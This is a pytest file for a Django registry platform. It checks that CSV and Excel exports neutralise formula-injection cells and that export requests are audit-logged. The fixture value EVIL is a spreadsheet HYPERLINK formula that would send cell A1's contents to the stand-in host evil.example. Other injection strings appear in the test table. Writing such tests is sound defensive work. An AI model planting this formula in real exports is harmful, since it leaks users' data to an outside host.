"""issue 20 A10 and A11: cells that spreadsheets would run as formulas are neutralised in every CSV and
workbook the platform writes; the streamed export is audited with the request's address and channel."""

import io
import zipfile

import pytest
from django.test import Client
from openpyxl import load_workbook

from fupin.core.exports import safe_cell
from fupin.core.models import AuditEvent

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
VILLAGE = "533301205201"


def new_events():
    """Audit events recorded from now on (the log is append-only: nothing can be cleared)."""
    last = AuditEvent.objects.order_by("-id").values_list("id", flat=True).first() or 0
    return AuditEvent.objects.filter(id__gt=last)


@pytest.mark.parametrize("value, shown", [
    (EVIL, "'" + EVIL), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-12.5", "-12.5"), ("+86", "+86"), ("张三", "张三"), ("13\x0012", "1312"), (5, 5),
])
def test_safe_cell(value, shown):
    assert safe_cell(value) == shown


def client_for(user):
    c = Client()
    c.force_login(user)
    return c


@pytest.fixture
def evil_head(households):
    h = households[VILLAGE]
    head = h.members.get(relation="01")
    head.name = EVIL
    head.save()
    return h


def test_household_list_csv_and_xlsx(users, evil_head):
    c = client_for(users["county"])
    events = new_events()
    body = b"".join(c.get("/households/", {"format": "csv"}).streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK" in body and ',"=HYPERLINK' not in body and "\n=HYPERLINK" not in body
    ev = events.get(action="export", object_type="registry.household")
    assert ev.channel == "web" and ev.ip == "127.0.0.1"
    wb = load_workbook(io.BytesIO(c.get("/households/", {"format": "xlsx"}).content))
    values = [v for row in wb.active.iter_rows(values_only=True) for v in row]
    assert "'" + EVIL in values and EVIL not in values


def test_registry_export_csv_and_xlsx(users, evil_head):
    c = client_for(users["county"])
    zipped = zipfile.ZipFile(io.BytesIO(c.get("/households/export/", {"format": "csv"}).content))
    text = "".join(zipped.read(n).decode("utf-8-sig") for n in zipped.namelist())
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
    wb = load_workbook(io.BytesIO(c.get("/households/export/").content))
    values = [v for ws in wb for row in ws.iter_rows(values_only=True) for v in row]
    assert "'" + EVIL in values and EVIL not in values
